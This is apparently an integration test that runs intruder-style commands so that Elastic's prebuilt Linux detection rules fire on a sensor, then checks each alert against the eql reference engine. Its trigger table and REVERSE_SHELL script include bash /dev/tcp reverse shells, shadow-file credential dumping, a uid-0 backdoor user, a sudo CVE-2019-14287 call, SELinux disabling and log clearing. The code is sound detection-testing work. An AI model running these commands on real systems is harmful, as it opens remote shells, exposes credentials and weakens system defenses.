"""Elastic's prebuilt Linux rules, unchanged from the corpus, on the real sensor: each triggered by real commands
(real programs where Debian ships them, renamed copies of /bin/true where the rule keys on a tool's name), each
alert checked, and the same documents run through the `eql` package's own engine as a reference: a rule that
fires here must match there too, so the on-node engine and the documents agree with an independent reading.

Tactics covered: credential access, discovery, defense evasion, persistence, privilege escalation (two uid_change
rules and a session_id_change one), execution, command and control, exfiltration, a sequence over an end and an
exec, an environment-variable rule, a rule inside a container and a network rule."""

from __future__ import annotations

import os
import re
import shutil
import stat
import subprocess
import tempfile
import tomllib
from collections.abc import Iterator
from pathlib import Path

import eql
import pytest
from eql import ast
from eql.parser import LarkToEQL, lark_parser
from eql.utils import ParserConfig, load_extensions

from tests.integration.conftest_containers import PODMAN_RUN, podman_image_ref, test_rootfs  # noqa: F401
from tests.integration.sensor_process import SensorProcess, get

pytestmark = pytest.mark.kernel

RULES = Path(__file__).resolve().parents[3] / "shared" / "elastic-rules" / "linux"

# rule file -> what triggers it, run by bash with $B (renamed copies, a directory anyone may run from) and $W (a
# scratch directory). Each command is something an intruder would type; none changes the machine.
HOST_TRIGGERS = {
    "credential_access_trufflehog_execution": '$B/trufflehog --json filesystem "$W"',
    "credential_access_gitleaks_execution": '$B/gitleaks detect --source "$W"',
    "credential_access_credential_dumping": "$B/unshadow /etc/passwd /etc/shadow",
    "credential_access_gdb_init_process_hooking": "$B/gdb -p 1",
    "discovery_linux_nping_activity": "$B/nping --tcp 10.0.0.1",
    "discovery_linux_hping_activity": "$B/hping3 -S 10.0.0.1",
    "discovery_kubectl_permission_discovery": "$B/kubectl auth can-i --list",
    "discovery_suspicious_memory_grep_activity": "grep -c '[stack]' /proc/self/maps",
    "discovery_sudo_allowed_command_enumeration": "$B/sudo -l",
    "discovery_process_capabilities": "setpriv --reuid=65534 --regid=65534 --clear-groups $B/getcap -r /",
    "command_and_control_linux_proxychains_activity": "$B/proxychains curl http://10.0.0.1/",
    "command_and_control_telegram_api_request": "$B/curl -s https://api.telegram.org/bot1/sendMessage",
    "defense_evasion_disable_selinux_attempt": "$B/setenforce 0",
    "defense_evasion_clear_kernel_ring_buffer": "$B/dmesg -c",
    "defense_evasion_base16_or_base32_encoding_or_decoding_activity": "echo payload | base32",
    "defense_evasion_journalctl_clear_logs": "$B/journalctl --vacuum-time=1s",
    "defense_evasion_shell_history_clearing_via_environment_variables": "env -i HISTFILE=/dev/null /bin/true",
    "defense_evasion_kthreadd_masquerading": "$B/kworker_evil -c 'import os; os.setsid()'",
    "privilege_escalation_kworker_uid_elevation": "$B/kworker_evil -c 'import os; os.setsid()'",
    "privilege_escalation_sudo_cve_2019_14287": "$B/sudo -u#-1 id",
    "privilege_escalation_chown_chmod_unauthorized_file_read": 'chmod -R --reference="$W/ref" "$W/target"',
    "privilege_escalation_suspicious_cap_setuid_python_execution":
        "setpriv --reuid=65534 --regid=65534 --clear-groups $B/python3 -c 'import os;os.setuid(0);os.system(\"true\")'",
    "privilege_escalation_suspicious_uid_guid_elevation":
        "setpriv --reuid=65534 --regid=65534 --clear-groups $B/python3 -c 'import os;os.setuid(0);os.system(\"true\")'",
    "persistence_openssl_passwd_hash_generation": "openssl passwd -1 -salt xy secret",
    "persistence_linux_backdoor_user_creation": "$B/usermod -u 0 -o backdoor",
    "persistence_setuid_setgid_capability_set": '$B/setcap cap_setuid+ep "$W/target"',
    "exfiltration_potential_database_dumping": "$B/pg_dump -h 10.0.0.1 prod",
    "execution_shell_via_background_process": "setsid /bin/true 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'",
    "credential_access_ssh_password_grabbing_via_strace": "$B/sshd; $B/strace -p 1",
}
RENAMED = ("trufflehog", "gitleaks", "unshadow", "gdb", "nping", "hping3", "kubectl", "sudo", "getcap",
           "proxychains", "curl", "setenforce", "dmesg", "journalctl", "usermod", "setcap", "pg_dump", "sshd",
           "strace")
CONTAINER_RULE = "execution_file_made_executable_via_chmod_inside_container"
NETWORK_RULE = "execution_shell_via_child_tcp_utility_linux"
REVERSE_SHELL = """
    ip link set lo up && ip addr add 93.184.216.34/32 dev lo || exit 3
    (echo exit | busybox nc -l -p 4444 >/dev/null) &
    sleep 0.5
    bash -c 'exec bash -i >& /dev/tcp/93.184.216.34/4444 0>&1'
    wait
"""


def _rule(stem: str) -> dict:
    path = RULES / f"{stem}.toml"
    if not path.is_file():
        pytest.fail(f"the rule corpus is missing {path}")
    return tomllib.loads(path.read_text())["rule"]


@pytest.fixture(scope="module")
def bin_dir() -> Iterator[Path]:
    """Renamed copies in a directory nobody (uid 65534) can run from, and a copy of Python with cap_setuid."""
    base = Path(tempfile.mkdtemp(prefix="cs-rules-", dir="/var/tmp"))
    base.chmod(0o755)
    for name in RENAMED:
        shutil.copy2("/bin/true", base / name)
    shutil.copy2("/usr/bin/python3", base / "kworker_evil")
    shutil.copy2("/usr/bin/python3", base / "python3")
    (base / "python3").chmod(stat.S_IRWXU | stat.S_IRGRP | stat.S_IXGRP | stat.S_IROTH | stat.S_IXOTH)
    subprocess.run(["setcap", "cap_setuid+ep", str(base / "python3")], check=True)
    try:
        yield base
    finally:
        shutil.rmtree(base)


# The array fields of the documents: Elasticsearch's EQL compares an array with a value by its elements (any one
# matching), where the `eql` package's engine compares the whole value; each test on one of these is rewritten
# into the package's arraySearch, which says the same thing in its own terms.
ARRAY_FIELDS = frozenset({
    "event.category", "event.type", "process.args", "process.parent.args", "process.env_vars",
    "process.thread.capabilities.effective", "process.thread.capabilities.permitted", "host.ip", "host.mac",
    "process.group_leader.args", "process.session_leader.args", "process.entry_leader.args",
    "container.image.tag",
})


def _dotted(field: ast.Field) -> str:
    return ".".join([field.base, *(str(part) for part in field.path)])


class _ArrayTests(ast.RecursiveWalker):
    """Each leaf test (comparison, set membership, function call, null check) that reads an array field becomes
    arraySearch(field, v, test with v for the field); and, or, not and the sequence around them are kept."""

    def __init__(self) -> None:
        super().__init__()
        self._count = 0

    def _leaf(self, node: ast.BaseNode) -> ast.BaseNode:
        node = _single_character_wildcards(node)
        fields = sorted({_dotted(f) for f in _fields(node)} & ARRAY_FIELDS)
        for dotted in fields:
            self._count += 1
            var = f"element_{self._count}"
            node = ast.FunctionCall("arraySearch", [ast.Field(*_split(dotted)), ast.Field(var),
                                                    _Rename(dotted, var).walk(node)])
        return node

    _walk_comparison = _walk_in_set = _walk_function_call = _walk_is_null = _walk_is_not_null = _leaf


def _single_character_wildcards(node: ast.BaseNode) -> ast.BaseNode:
    """`?` matches one character in Elasticsearch's wildcards; the package's wildcard() takes it literally, so a
    pattern with one becomes the same test as a regular expression."""
    if not (isinstance(node, ast.FunctionCall) and node.name == "wildcard"):
        return node
    field, *patterns = node.arguments
    if not any(isinstance(p, ast.String) and "?" in p.value for p in patterns):
        return node
    # scoped flags: the package joins the expressions with |, where a leading (?i) would not stand
    regexes = [ast.String("(?is:^" + re.escape(p.value).replace("\\*", ".*").replace("\\?", ".") + "$)")
               for p in patterns]
    return ast.FunctionCall("match", [field, *regexes])


class _Rename(ast.RecursiveWalker):
    def __init__(self, dotted: str, var: str) -> None:
        super().__init__()
        self._dotted, self._var = dotted, var

    def _walk_field(self, node: ast.Field) -> ast.Field:
        return ast.Field(self._var) if _dotted(node) == self._dotted else node


def _fields(node: object) -> list[ast.Field]:
    if isinstance(node, ast.Field):
        return [node]
    if isinstance(node, ast.BaseNode):
        return [f for _name, value in node.iter_slots() for f in _fields(value)]
    if isinstance(node, list | tuple):
        return [f for item in node for f in _fields(item)]
    return []


def _split(dotted: str) -> tuple[str, list[str]]:
    base, *path = dotted.split(".")
    return base, path


def _reference_matches(query: str, docs: list[dict]) -> int:
    """How many results the `eql` package's own engine finds for QUERY over DOCS, read as Elasticsearch reads it
    (its syntax, function names in any case, a lone address as a network, arrays by their elements), with the
    package's optimizer off (it folds `args == "-p" and args == "1"` to false, as for a single value)."""
    query = re.sub(r"\bcidrmatch\(", "cidrMatch(", query, flags=re.IGNORECASE)
    query = query.replace('"::1"', '"::1/128"')
    load_extensions(force=False)
    with ParserConfig(elasticsearch_syntax=True, implied_any=False, implied_base=False, allow_subqueries=True,
                      allow_pipes=True, check_functions=True, allow_runs=True):
        parsed = LarkToEQL(query + "\n").visit(lark_parser.parse(query + "\n", start="piped_query"))
    parsed = _ArrayTests().walk(getattr(parsed, "node", parsed))
    engine = eql.PythonEngine()
    found: list = []
    engine.add_output_hook(found.append)
    engine.add_query(parsed)
    engine.stream_events([eql.Event((get(doc, "event.category") or ["any"])[0], n, doc)
                          for n, doc in enumerate(docs)])
    return len(found)


def test_elastic_rules_fire_on_real_commands_and_agree_with_the_reference_engine(
        bin_dir: Path, podman_image_ref: str, tmp_path: Path) -> None:  # noqa: F811
    stems = sorted({*HOST_TRIGGERS, CONTAINER_RULE, NETWORK_RULE})
    assert len(stems) >= 25
    rules_dir = tmp_path / "rules"
    rules_dir.mkdir()
    names = {}
    for stem in stems:
        (rules_dir / f"{stem}.toml").write_text((RULES / f"{stem}.toml").read_text())
        names[stem] = _rule(stem)["name"]
    work = tmp_path / "work"
    work.mkdir()
    (work / "ref").write_text("")
    (work / "target").write_text("")
    env = dict(os.environ, B=str(bin_dir), W=str(work))
    with SensorProcess("--rules", str(rules_dir), "--no-builtin-rules") as sensor:
        refused = [line for line in sensor.stderr().splitlines() if "refused" in line]
        assert refused == [], refused
        for stem, command in HOST_TRIGGERS.items():
            # "; true": bash runs the command as its child (a lone command it would exec in place of itself)
            done = subprocess.run(["bash", "-c", f"{command}; true"], env=env, capture_output=True, text=True,
                                  timeout=60)
            assert done.returncode == 0, f"{stem}: {done.stderr}"
        # busybox's chmod applet is the file busybox, named so as Elastic Defend names it: the rule wants a file
        # called chmod, which a copy of busybox is (it runs the applet its own name says)
        done = subprocess.run([*PODMAN_RUN, "--rm", podman_image_ref, "/bin/sh", "-c",
                               "cp /bin/busybox /tmp/chmod && /tmp/chmod 755 /tmp/. ; true"],
                              capture_output=True, text=True, timeout=120)
        assert done.returncode == 0, done.stderr
        done = subprocess.run(["unshare", "-n", "bash", "-c", REVERSE_SHELL], capture_output=True, text=True,
                              timeout=60)
        assert done.returncode == 0, done.stderr
        wanted = set(names.values())
        sensor.wait_for(lambda d: get(d, "event.kind") == "alert" and get(d, "rule.name") in wanted,
                        count=len(wanted), timeout=30)
        sensor.stop()
    fired = {get(d, "rule.name") for d in sensor.docs if get(d, "event.kind") == "alert"}
    missing = sorted(stem for stem, name in names.items() if name not in fired)
    assert missing == [], f"rules that did not fire: {missing}"
    events = [d for d in sensor.docs if get(d, "event.kind") == "event"]
    disagree = [stem for stem in stems if _reference_matches(_rule(stem)["query"], events) == 0]
    assert disagree == [], f"the reference engine finds no match for: {disagree}"
    assert " 0 lost" in sensor.stderr()

